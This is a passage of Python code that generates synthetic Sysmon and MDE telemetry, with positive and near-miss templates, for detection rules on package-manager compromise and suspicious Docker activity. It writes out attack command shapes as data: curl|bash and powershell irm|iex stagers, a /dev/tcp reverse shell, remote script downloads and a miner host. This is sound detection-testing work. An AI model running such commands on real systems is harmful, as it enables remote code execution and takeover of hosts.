            b = r.proc("writer", _user_bash(r, t))
            r.file("ci_file", b, t, f"{d}/Jenkinsfile", op="modify")
        elif kind == "issue_template":
            node = _npm(r, t)
            r.file(
                "other_file",
                node,
                t + ctx.secs(3, 20),
                f"{d}/.github/ISSUE_TEMPLATE/bug_report.yml",
            )
        else:  # deleted
            node = _npm(r, t)
            r.file(
                "ci_file", node, t + ctx.secs(3, 20), f"{d}/.github/workflows/ci.yml", op="delete"
            )

    return build


def _plan_dependency() -> list[Template]:
    S, N, W = (
        "dependency_compromise_shell_child",
        "dependency_compromise_network",
        "dependency_compromise_cicd_write",
    )
    LX, WIN = ("linux_dev",), ("win_dev",)
    return [
        Template(
            S,
            "positive",
            "win_npm_cmd_powershell",
            WIN,
            True,
            "npm install (node.exe) -> cmd.exe /d /s /c -> powershell irm|iex (Shai-Hulud shape).",
            dsc_windows,
        ),
        Template(
            S,
            "positive",
            "linux_npm_curl_bash",
            LX,
            True,
            "npm install -> sh -c 'curl http://... | bash'.",
            dsc_linux_npm,
        ),
        Template(
            S,
            "positive",
            "linux_pip_reverse_shell",
            LX,
            True,
            "pip install (python3) -> sh -c 'bash -i >& /dev/tcp/...'.",
            dsc_linux_pip,
        ),
        Template(
            S,
            "positive",
            "linux_npm_wget_depth2",
            LX,
            False,
            "npm install -> sh -c ./scripts/build.sh -> wget http://... (downloader two levels below npm; graph-native ancestry only: its direct parent is a shell, not a package manager).",
            dsc_linux_depth2,
        ),
        Template(
            S,
            "near_miss",
            "npm_node_child_only",
            LX,
            False,
            "npm install whose only child is node install.js (fails: shell/LOLBin child).",
            dsc_node_child_only,
        ),
        Template(
            S,
            "near_miss",
            "curl_bash_from_login_shell",
            LX,
            False,
            "The same curl|bash started from an interactive bash, not a package manager (fails: package-manager parent).",
            dsc_shell_from_bash,
        ),
        Template(
            S,
            "near_miss",
            "pip_python_child_only",
            LX,
            False,
            "pip install whose only child is the PEP 517 build backend (fails: shell/LOLBin child).",
            dsc_pip_python_child,
        ),
        Template(
            N,
            "positive",
            "pip_unlisted_host",
            LX,
            True,
            "pip (python3) connects to a public host that is not an allow-listed registry.",
            dn("pip_public"),
        ),
        Template(
            N,
            "positive",
            "npm_bare_public_ip",
            LX,
            True,
            "npm (node) connects to a bare public IP on 8080 (no URL).",
            dn("npm_raw_ip"),
        ),
        Template(
            N,
            "positive",
            "win_npm_unlisted_host",
            WIN,
            True,
            "npm (node.exe) connects to a public non-registry host (Sysmon).",
            dn("win_npm"),
        ),
        Template(
            N,
            "near_miss",
            "allow_listed_registry",
            LX,
            False,
            "pip connects to the allow-listed files host of the package index (fails: not allow-listed).",
            dn("allow_listed"),
        ),
        Template(
            N,
            "near_miss",
            "private_mirror",
            LX,
            False,
            "pip connects to an internal RFC 1918 mirror (fails: public address).",
            dn("private"),
        ),
        Template(
            N,
            "near_miss",
            "not_package_manager",
            LX,
            False,
            "curl, not a package manager, fetches from the same unlisted host (fails: package-manager process).",
            dn("curl"),
        ),
        Template(
            W,
            "positive",
            "npm_writes_github_workflow",
            LX,
            True,
            "npm install writes .github/workflows/shai-hulud-workflow.yml.",
            cicd("workflow"),
        ),
        Template(
            W,
            "positive",
            "pip_modifies_gitlab_ci",
            LX,
            True,
            "A pip install rewrites .gitlab-ci.yml.",
            cicd("gitlab"),
        ),
        Template(
            W,
            "positive",
            "bash_modifies_jenkinsfile",
            LX,
            True,
            "An interactive bash rewrites a Jenkinsfile.",
            cicd("jenkins"),
        ),
        Template(
            W,
            "positive",
            "win_cmd_writes_github_workflow",
            WIN,
            True,
            "cmd.exe spawned by npm writes .github\\workflows\\ci.yml (Sysmon 11).",
            cicd("win"),
            also=(S,),
        ),
        Template(
            W,
            "near_miss",
            "issue_template_yaml",
            LX,
            False,
            "npm writes .github/ISSUE_TEMPLATE/bug_report.yml (fails: CI definition path).",
            cicd("issue_template"),
        ),
        Template(
            W,
            "near_miss",
            "workflow_deleted",
            LX,
            False,
            "npm deletes .github/workflows/ci.yml (fails: created/modified/renamed).",
            cicd("deleted"),
        ),
    ]


# ==== docker =========================================================================================


def _docker_cli(r: Rec, parent: Proc, t: int, cmd: str, cwd: str) -> Proc:
    return r.proc("docker_cli", r.ctx.spawn(parent, "docker", cmd, t, cwd=cwd))


def db(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        ll = ctx.host.long_lived
        d = (
            _linux_proj(ctx.host)
            if ctx.host.role == "linux_dev"
            else "/home/gitlab-runner/builds/x7f3a1c2/0/team/orders-api"
        )
        if kind == "chain":
            b = _user_bash(r, t)
            ip = public_ip(ctx.rng)
            sh = r.proc("stager", ctx.spawn(b, "bash", "bash", t - 20 * US))
            curl = ctx.spawn(b, "curl", f"curl -s http://{ip}/k.sh", t - 20 * US)
            ctx.net(curl, t - 19 * US, Endpoint(ip, 80, "tcp", ""))
            r.file("dockerfile", sh, t - 10 * US, "/tmp/.ICE-unix/.x/Dockerfile")
            _docker_cli(
                r, sh, t, "docker build -t sysupdate:latest /tmp/.ICE-unix/.x", "/tmp/.ICE-unix/.x"
            )
            r.net("remote", ll["dockerd"], t + ctx.secs(2, 6), _c2(r, "xmr-pool.example"))
            return
        if kind == "devshm_python":
            py = r.proc(
                "parent",
                ctx.spawn(
                    _user_bash(r, t),
                    "python3",
                    "python3 /dev/shm/.b/run.py",
                    t - 5 * US,
                    cwd="/dev/shm/.b",
                ),
            )
            _docker_cli(
                r,
                py,
                t,
                "docker build --no-cache -f /dev/shm/.b/Dockerfile -t cache:1 /dev/shm/.b",
                "/dev/shm/.b",
            )
        elif kind == "external_file":
            _docker_cli(
                r,
                ll["gitlab_runner"] if "gitlab_runner" in ll else _user_bash(r, t),
                t,
                f"docker build -f https://{public_ip(ctx.rng)}/df/Dockerfile -t app:ext .",
                d,
            )
        elif kind == "bash_project":
            _docker_cli(r, _user_bash(r, t), t, "docker build -t app:dev .", d)
        elif kind == "make_project":
            mk = ctx.spawn(_user_bash(r, t), "make", "make image", t - 2 * US, cwd=d)
            _docker_cli(r, mk, t, "docker build -t app:dev .", d)
        elif kind == "runner_nocache":
            parent = ll.get("gitlab_runner") or ctx.spawn(
                _user_bash(r, t), "make", "make image", t - 2 * US, cwd=d
            )
            _docker_cli(r, parent, t, "docker build --no-cache -t app:ci .", d)
        else:  # docker_run_tmp
            _docker_cli(
                r,
                _user_bash(r, t),
                t,
                "docker run --rm -v /tmp/work:/work alpine:3.19 sh -c ls",
                "/tmp/work",
            )
        # dockerd pulls the base image from the allow-listed registry, as every build does
        ctx.net(
            ll["dockerd"],
            t + ctx.secs(1, 3),
            Endpoint(C.resolve(C.DOCKER_REGISTRY), 443, "tcp", C.DOCKER_REGISTRY),
        )

    return build


def df(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        b = _user_bash(r, t)
        if kind == "curl_tmp":
            ip = public_ip(ctx.rng)
            w = r.proc(
                "writer",
                ctx.spawn(
                    b, "curl", f"curl -so /tmp/.cache/k8s/Dockerfile http://{ip}/Dockerfile", t
                ),
            )
            ctx.net(w, t + ctx.ms(20, 60), Endpoint(ip, 80, "tcp", ""))
            r.file("dockerfile", w, t + ctx.ms(100, 300), "/tmp/.cache/k8s/Dockerfile")
        elif kind == "python_vartmp":
            w = r.proc("writer", ctx.spawn(b, "python3", "python3 gen.py", t))
            r.file("dockerfile", w, t + ctx.ms(100, 300), "/var/tmp/build/app.dockerfile")
        elif kind == "bash_devshm":
            r.proc("writer", b)
            r.file("dockerfile", b, t, "/dev/shm/.x/Dockerfile")
        elif kind == "project_dir":
            w = r.proc(
                "writer", ctx.spawn(b, "vim", "vim Dockerfile", t, cwd=_linux_proj(ctx.host))
            )
            r.file(
                "dockerfile",
                w,
                t + ctx.secs(20, 90),
                f"{_linux_proj(ctx.host)}/Dockerfile",
                op="modify",
            )
        else:  # wrong_name
            ip = public_ip(ctx.rng)
            w = r.proc(
                "writer",
                ctx.spawn(b, "curl", f"curl -so /tmp/Dockerfile.bak http://{ip}/Dockerfile", t),
            )
            ctx.net(w, t + ctx.ms(20, 60), Endpoint(ip, 80, "tcp", ""))
            r.file("other_file", w, t + ctx.ms(100, 300), "/tmp/Dockerfile.bak")

    return build


def dd(kind: str) -> Builder:
    def build(r: Rec, t: int) -> None:
        ctx = r.ctx
        ll = ctx.host.long_lived
        actor = ll["containerd"] if kind == "containerd" else ll["dockerd"]
        r.proc("daemon", actor)
        ep = {
            "public_host": _c2(r, "xmr-pool.example"),
            "raw_ip_8080": Endpoint(public_ip(ctx.rng), 8080, "tcp", ""),
            "allow_listed": Endpoint(C.resolve(C.DOCKER_REGISTRY), 443, "tcp", C.DOCKER_REGISTRY),
            "private": Endpoint(C.resolve(C.ARTIFACTS_INTERNAL), 443, "tcp", C.ARTIFACTS_INTERNAL),
            "odd_port": Endpoint(C.resolve("xmr-pool.example"), 9000, "tcp", "xmr-pool.example"),
            "containerd": _c2(r, "xmr-pool.example"),
        }[kind]
        r.net("remote", actor, t, ep)

    return build


def _plan_docker() -> list[Template]:
    B, F, D = "docker_build_suspicious", "dockerfile_temp_write", "dockerd_nonregistry_network"
    LX = ("linux_dev", "linux_build")
    DEV = ("linux_dev",)
    return [
        Template(
            B,
            "positive",
            "tmp_build_bash_chain",
            DEV,
            True,
            "curl|bash stager writes /tmp/.ICE-unix/.x/Dockerfile, bash runs docker build from it, dockerd reaches a miner host (score 5).",
            db("chain"),
            also=(F, D),
        ),
        Template(
            B,
            "positive",
            "devshm_nocache_python",
            DEV,
            True,
            "python3 runs docker build --no-cache from /dev/shm (score 3+1+2=6).",
            db("devshm_python"),
        ),
        Template(
            B,
            "positive",
            "external_dockerfile_url",
            LX,
            True,
            "docker build -f https://<ip>/... from a project dir by a non-suspicious parent (score 4).",
            db("external_file"),
        ),
        Template(
            B,
            "positive",
            "bash_parent_project_dir",
            DEV,
            True,
            "bash runs docker build from a project dir: the bash parent alone scores 2, the threshold (boundary case; seed logic as written).",
            db("bash_project"),
        ),
        Template(
            B,
            "near_miss",
            "make_parent_project_dir",
            DEV,
            False,
            "make runs docker build from a project dir (score 0; fails: suspicious parent).",
            db("make_project"),
        ),
        Template(
            B,
            "near_miss",
            "no_cache_only",
            ("linux_build",),
            False,
            "The CI runner runs docker build --no-cache from its build dir (score 1 < 2).",
            db("runner_nocache"),
        ),
        Template(
            B,
            "near_miss",
            "docker_run_from_tmp",
            DEV,
            False,
            "bash runs docker run (not build) mounting /tmp (fails: build command).",
            db("docker_run_tmp"),
        ),
        Template(
            F,
            "positive",
            "curl_writes_tmp_dockerfile",
            LX,
            True,
            "curl downloads a Dockerfile into /tmp/.cache/k8s/.",
            df("curl_tmp"),
        ),
        Template(
            F,
            "positive",
            "python_writes_vartmp_dockerfile",
            LX,
            True,
            "python3 writes /var/tmp/build/app.dockerfile.",
            df("python_vartmp"),
        ),
        Template(
            F,
            "positive",
            "bash_writes_devshm_dockerfile",
            LX,
            True,
            "bash writes /dev/shm/.x/Dockerfile.",
            df("bash_devshm"),
        ),
        Template(
            F,
            "near_miss",
            "project_dir_dockerfile",
            DEV,
            False,
            "vim saves the project's own Dockerfile (fails: temp path).",
            df("project_dir"),
        ),
        Template(
            F,
            "near_miss",
            "tmp_dockerfile_bak",
            LX,
            False,
            "curl writes /tmp/Dockerfile.bak (fails: Dockerfile name).",
            df("wrong_name"),
        ),
        Template(
            D,
            "positive",
            "unlisted_host_443",
            LX,
            True,
            "dockerd connects to a public non-registry host on 443.",
            dd("public_host"),
        ),
        Template(
            D,
            "positive",
            "bare_ip_8080",
            LX,
            True,
            "dockerd connects to a bare public IP on 8080.",
            dd("raw_ip_8080"),
        ),
        Template(
            D,
            "near_miss",
            "allow_listed_registry",
            LX,
            False,
            "dockerd connects to the allow-listed registry (fails: non-registry host).",
            dd("allow_listed"),
        ),
        Template(
            D,
            "near_miss",
            "private_registry",
            LX,
            False,
            "dockerd connects to an internal RFC 1918 registry (fails: public address).",
            dd("private"),
        ),
        Template(
            D,
            "near_miss",
            "unusual_port",
            LX,
            False,
            "dockerd connects to the miner host on port 9000 (fails: port 80/443/8080/8443).",
            dd("odd_port"),
        ),
        Template(
            D,
            "near_miss",
            "containerd_not_dockerd",
            LX,
            False,
            "containerd, not dockerd, connects to the miner host on 443 (fails: dockerd).",
            dd("containerd"),
        ),
    ]


TEMPLATES: tuple[Template, ...] = tuple(
    _plan_bpc() + _plan_msp() + _plan_network() + _plan_dependency() + _plan_docker()
)


# ---- materialising a planned scenario ------------------------------------------------------------

_KIND_NAME = {
    START: "process_start",
    END: "process_end",
    FILE: "file_write",
    DELETE: "file_delete",
    NET: "network_connect",
    DNS: "dns_query",
}


def event_ref(ev: tuple) -> dict[str, Any]:
    """A format-specific natural key for one event, enough to find its line in the output."""
    ts, kind, p, a, b, c = ev
    h = p.host
    if h.windows:
        target = a.ip if kind == NET else (a if kind in (FILE, DELETE, DNS) else None)
        return {
            "format": "sysmon",
            "host": h.fqdn,
            "event_id": kind,
            "time": sysmon_utc(ts),
            "process_guid": p.guid,
            "target": target,
        }
    table = {
        START: "DeviceProcessEvents",
        FILE: "DeviceFileEvents",
        DELETE: "DeviceFileEvents",
        NET: "DeviceNetworkEvents",
    }[kind]
    target = a.ip if kind == NET else (a if kind in (FILE, DELETE) else None)
    return {
        "format": "mde",
        "host": h.fqdn.lower(),
        "table": table,
        "time": iso_us(ts),
        "process_unique_id": p.uid,
        "target": target,
    }


SCRIPT_HOST_NAMES = (
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "powershell_ise.exe",
    "cscript.exe",
    "wscript.exe",
    "mshta.exe",
)
SCRIPT_HOSTS = frozenset(SCRIPT_HOST_NAMES)
NEW_TERMS_HISTORY = 5 * 24 * 60 * MINUTE  # the Elastic rule's history window


# MSBuild by file name or by PE OriginalFileName (a renamed copy), as the rule matches it
_MSBUILD_NAMES = frozenset(
    img.path.rsplit("\\", 1)[-1].lower()
    for img in C.WIN.values()
    if img.original.lower() == "msbuild.exe"
) | {"msbuild.exe"}


def script_msbuild_spawns(events: list[tuple]) -> list[int]:
    """Times of MSBuild starts whose direct parent is a script host (new_terms input)."""
    return [
        e[0]
        for e in events
        if e[1] == START
        and e[2].name.lower() in _MSBUILD_NAMES
        and e[2].parent is not None
        and e[2].parent.name.lower() in SCRIPT_HOSTS
    ]


def materialise(plan: Planned, ctx: Ctx, other: Ctx | None) -> list[tuple]:
    """Run the template's builder; return its events and fill `plan.truth`."""
    start = len(ctx.out)
    other_start = len(other.out) if other else 0
    rec = Rec(ctx, other)
    plan.tpl.build(rec, plan.t0)
    events = ctx.out[start:] + (other.out[other_start:] if other else [])
    events.sort(key=lambda e: e[0])
    plan.n_events = len(events)
    plan.truth = _truth(plan, rec, events)
    return events


def _truth(plan: Planned, rec: Rec, events: list[tuple]) -> dict[str, Any]:
    tpl, h = plan.tpl, plan.host
    hosts = [h.short] + ([plan.other.short] if plan.other else [])
    return {
        "id": plan.sid,
        "rule": tpl.rule,
        "label": tpl.label,
        "variant": tpl.variant,
        "seed_literal": tpl.literal,
        "also_matches": list(tpl.also),
        "format": "sysmon" if h.windows else "mde",
        "host": h.short,
        "hosts": hosts,
        "time": iso_us(events[0][0]),
        "time_end": iso_us(events[-1][0]),
        "anchor_time": iso_us(plan.t0),
        "processes": rec.procs,
        "files": rec.files,
        "addresses": rec.addrs,
        "events": [event_ref(e) for e in events],
        "notes": {**rec.notes, **plan.notes},
        "description": tpl.description,
    }
